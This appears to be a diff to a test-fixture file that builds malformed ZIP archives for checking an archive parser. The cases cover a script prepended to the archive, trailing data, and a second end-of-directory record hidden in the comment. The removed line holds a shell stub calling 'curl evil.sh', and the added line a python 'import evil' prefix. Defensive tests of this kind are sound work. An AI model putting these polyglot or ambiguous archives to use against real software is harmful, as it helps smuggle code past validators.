@@ -117,10 +117,10 @@ evil('zip/orphan', plain, {
 
 evil('zip/prefix', plain, {
   attack: 'X9',
-  why: 'A script in front of the archive.',
-  made: 'cat of a script and b',
+  why: 'A script in front of the archive, which its interpreter loads.',
+  made: 'cat of a line for python3, a command and b',
   causes: ['structural:prefix-data'],
-  b: zip => bytes('#!/bin/sh\ncurl evil.sh\n', zip),
+  b: zip => bytes('#!/usr/bin/env python3\nimport evil\n', zip),
 })
 evil('zip/trailing', plain, {
   attack: 'X8',
@@ -129,7 +129,8 @@ evil('zip/trailing', plain, {
   causes: ['structural:trailing-data'],
   b: zip => bytes(zip, 'evil payload'),
 })
-const withComment = (zip, comment) => bytes(patched(zip, [[zip.length - END + end.commentLength, u16(comment.length)]]), comment)
+export const withComment = (zip, comment) =>
+  bytes(patched(zip, [[zip.length - END + end.commentLength, u16(comment.length)]]), comment)
 evil('zip/end-in-comment', plain, {
   attack: 'X12',
   why: 'The comment holds another end of the directory.',
@@ -147,7 +148,7 @@ evil('zip/two-ends', plain, {
   attack: 'X12',
   why: 'Two ends of the directory: the reader decides which archive it is.',
   made: 'an archive comment in b that is an archive of run alone',
-  causes: ['structural:prefix-data'],
+  causes: ['structural:malformed'],
   b: zip =>
     withComment(
       zip,
